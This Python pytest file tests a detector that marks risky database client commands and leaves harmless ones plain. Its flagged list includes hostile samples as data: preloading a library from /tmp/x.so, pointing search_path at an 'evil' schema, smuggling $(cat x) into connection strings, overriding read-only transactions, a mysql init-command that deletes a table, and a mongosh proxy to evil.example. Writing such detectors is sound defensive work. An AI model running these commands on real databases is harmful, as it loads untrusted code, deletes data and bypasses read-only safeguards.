"""Settings of a database server that a client chooses when it connects, or by SET."""

import pytest
from reading import beyond, cases, effects

HELD = r"""
PGOPTIONS='-c session_preload_libraries=/tmp/x.so' psql -h 127.0.0.1 -U postgres -c 'select 1'
PGOPTIONS='-c statement_timeout=5s -c local_preload_libraries=x' psql -c 'select 1'
PGOPTIONS=--search_path=evil psql -c 'select 1'
PGOPTIONS='-csearch_path=evil' psql -c 'select 1'
PGOPTIONS='-c statement_timeout=1\ -c\ search_path=evil' psql -c 'select 1'
PGOPTIONS=$(cat x) psql -c 'select 1'
export PGOPTIONS='-c search_path=evil'; psql -c 'select 1'
env PGOPTIONS='-c search_path=evil' psql -c 'select 1'
PGOPTIONS='-c session_preload_libraries=x' pg_isready
PGSERVICEFILE=/srv/app/x PGSERVICE=a psql -c 'select 1'
PGSYSCONFDIR=/srv/app psql -c 'select 1'
psql 'postgresql://h/d?options=-c%20session_preload_libraries%3D/tmp/x.so' -c 'select 1'
psql 'postgresql://h/d?%6fptions=-c%20search_path%3Dx' -c 'select 1'
psql 'postgres://h/d?sslmode=require&options=--search_path=x' -c 'select 1'
psql "host=h options='-c session_preload_libraries=/tmp/x.so'" -c 'select 1'
psql "options = '-c search_path=x' host=h" -c 'select 1'
psql -d "options=-csearch_path=x" -c 'select 1'
psql --dbname="dbname=a options='-c search_path=x'" -c 'select 1'
psql -Xvc "options='-c search_path=x'" -c 'select 1'
psql "host=h dbname=$(cat x)" -c 'select 1'
psql -d "$(cat x)" -c 'select 1'
pg_isready -d "options='-c session_preload_libraries=/tmp/x.so'"
pg_isready -d 'postgresql://h/d?options=-c%20search_path%3Dx'
psql -c "set search_path=evil,pg_catalog; select lower('x')"
psql -c "set local search_path to evil; select 1"
psql -c "set session session_preload_libraries = '/tmp/x.so'"
psql -c "set schema 'evil'; select 1"
psql -c "set \"search_path\" to evil; select 1"
psql -c "set standard_conforming_strings to off; select 1"
PGOPTIONS= psql -c 'select 1'
PGOPTIONS='-c statement_timeout=5s' psql -c 'select 1'
PGOPTIONS='-c default_transaction_read_only=off' psql -c 'select 1'
PGOPTIONS='-c transaction_read_only=on' psql -c 'select 1'
psql "host=h options='-c statement_timeout=5s'" -c 'select 1'
psql 'postgresql://h/d?options=-c%20default_transaction_read_only%3Doff' -c 'select 1'
psql -c "begin read write; select 1"
psql -c "start transaction isolation level serializable, read write; select 1"
psql -c "set transaction read write; select 1"
psql -c "set session characteristics as transaction read write; select 1"
psql -c "set default_transaction_read_only to off; select 1"
psql -c "set local transaction_read_only = false; select 1"
psql -c "set default_transaction_read_only = default"
env -i psql -c 'select 1'
env -u PGOPTIONS psql -c 'select 1'
unset PGOPTIONS; psql -c 'select 1'
mysql --init-command='set global general_log=1' -e 'select 1'
mysql --init-command='delete from t' -e 'select 1'
mongosh 'mongodb://localhost/x?proxyHost=evil.example' --eval 'db.stats()'
mongosh 'mongodb://localhost/x?tls=true&tlsCertificateKeyFile=%2Fsrv%2Fx' --eval 'db.stats()'
"""
PLAIN = r"""
PGOPTIONS='-c statement_timeout=5s -c default_transaction_read_only=on' psql -c 'select 1'
PGOPTIONS='--default_transaction_read_only=true --lock_timeout=1s' psql -h db -c 'select 1'
PGOPTIONS='-c default_transaction_read_only=on' psql -c 'select 1'
PGCONNECT_TIMEOUT=5 PGPASSWORD=x PGUSER=app psql -c 'select 1'
psql 'postgresql://app@h:5432/d?sslmode=require' -c 'select 1'
psql 'postgresql://h/d?options=-c%20default_transaction_read_only%3Don' -c 'select 1'
psql "host=h dbname=d options='-c default_transaction_read_only=on'" -c 'select 1'
psql -c "select options from x where options = 'a'"
psql -Atc "select 'options=-c search_path=x'"
psql -d shop -c 'select 1'
for d in a b; do psql -d $d -c 'select 1'; done
psql -c "set statement_timeout='5s'; select 1"
psql -c "set local statement_timeout to 5000; select 1"
psql -c "set session characteristics as transaction read only; select 1"
psql -c "set transaction read only; select 1"
psql -c "set time zone 'UTC'; select now()"
psql -c "set default_transaction_read_only to on; select 1"
psql -c "begin; select 1; commit"
psql -c "begin isolation level serializable read only; select 1"
env -u PGHOST psql -c 'select 1'
psql -c "set enable_seqscan = off; explain select 1"
pg_isready -h localhost -p 5432 -d shop
mysql --init-command='set session max_execution_time=1000' -e 'select 1'
mongosh 'mongodb://a,b/x?replicaSet=rs0&readPreference=secondary' --eval 'db.stats()'
"""


@pytest.mark.parametrize("command", cases(HELD))
def test_settings_that_are_not_known_to_be_harmless_are_marked(command: str) -> None:
    assert beyond(command)


@pytest.mark.parametrize("command", cases(PLAIN))
def test_harmless_settings_stay_plain(command: str) -> None:
    assert not beyond(command), effects(command)
